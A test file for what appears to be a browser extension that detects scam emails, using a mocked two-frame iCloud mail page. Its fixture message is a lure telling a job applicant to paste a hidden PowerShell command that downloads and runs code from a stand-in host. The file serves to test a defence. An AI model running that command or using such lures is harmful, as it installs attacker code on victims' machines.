import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Chromium, readCards, saveScreenshot, waitForListed } from './harness/chromium.ts'

const TOP = 'www.icloud.com'
const SANDBOX = 'www-mail.icloud-sandbox.com'
const LIST = '/applications/mail2/current/en-us/index.html'
const BODY = '/applications/mail2-message/current/en-us/index.html'

const LIST_PAGE = `<!doctype html><meta charset="utf-8"><body>
<div class="thread-list"><div class="thread-list-item" role="treeitem" aria-selected="true">
<span class="thread-participants">Irena Valdis</span><span class="thread-subject">Your application</span></div></div>
<div class="pane thread-detail-pane"><div class="header"><span class="contact-token">Irena Valdis</span>
<span class="contact-token">Sam Rivera</span></div>
<iframe src="https://${SANDBOX}${BODY}" style="width:600px;height:400px"></iframe></div></body>`

const BODY_PAGE = `<!doctype html><meta charset="utf-8"><body class="ic-1w42zm0">
<div class="mail-message-defaults ic-1203xvo"><p>Dear Sam, to start your test task press Win+R, paste the
command below and press Enter.</p><pre>powershell -w hidden -c "iwr https://tasks.example/a | iex"</pre>
<span class="contact-token">Forged Name</span></div></body>`

describe('iCloud, whose mails stand in frames of two origins', () => {
  let run: Chromium
  beforeAll(async () => {
    run = await Chromium.start({
      hosts: [TOP, SANDBOX],
      changeManifest: (manifest) => ({
        ...manifest,
        host_permissions: [
          ...manifest.host_permissions,
          `https://${TOP}/*`,
          `https://${SANDBOX}/*`,
        ],
      }),
    })
    run.server.pages.set(
      `${TOP}/mail/`,
      `<!doctype html><iframe class="child-application" src="${LIST}" style="width:900px;height:600px"></iframe>`,
    )
    run.server.pages.set(`${TOP}${LIST}`, LIST_PAGE)
    run.server.pages.set(`${SANDBOX}${BODY}`, BODY_PAGE)
  })
  afterAll(() => run.close())

  it('joins the head of one frame with the text of another, and warns at the text', async () => {
    const page = await run.context.newPage()
    await page.goto(`https://${TOP}/mail/`)
    const popup = await run.openPopup(page)
    await waitForListed(popup, 'Irena Valdis')
    const cards = await readCards(popup, 'Messages on this page')
    expect(cards).toHaveLength(1)
    expect(cards[0]?.sender).toBe('Irena Valdis')
    expect(cards[0]?.text).toContain('Your application')
    expect(cards[0]?.level).not.toBe('none')
    await expect.poll(() => run.readBadge(page)).toBe('1')
    await saveScreenshot(page, 'icloud')
  })
})
